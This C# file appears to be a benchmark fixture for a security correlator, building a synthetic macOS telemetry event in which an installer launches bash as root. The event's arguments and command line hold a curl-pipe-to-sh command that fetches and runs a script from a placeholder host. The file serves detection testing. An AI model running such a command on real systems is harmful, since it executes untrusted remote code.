using Vigil.Contracts.Telemetry;

namespace Vigil.Correlator.Benchmarks;

/// <summary>The first step of the installer-network sequence, as an agent reports it: an installer's script starts bash.</summary>
internal static class Installer
{
    public const long T0 = 1_763_800_000_000_000_000L;

    public static TelemetryEvent Shell(string host, long timestamp) => new()
    {
        Timestamp = timestamp,
        Event = new Event { Id = $"{host}-{timestamp}", Sequence = timestamp / 1000, Category = { "process" }, Type = { "start" }, Action = "exec", Kind = "event" },
        Host = new Host { Id = host, Name = host, Os = new Os { Type = "macos" } },
        User = new User { Id = "0", Name = "root" },
        Process = new Process
        {
            EntityId = $"{host}-bash",
            Pid = 4242,
            Name = "bash",
            Executable = "/bin/bash",
            Args = { "/bin/bash", "-c", "curl -fsSL https://cdn.example/p.sh | sh" },
            ArgsCount = 3,
            CommandLine = "/bin/bash -c curl -fsSL https://cdn.example/p.sh | sh",
            Parent = new Process { EntityId = $"{host}-installer", Name = "installer", Executable = "/usr/sbin/installer", Pid = 4200 },
        },
    };
}
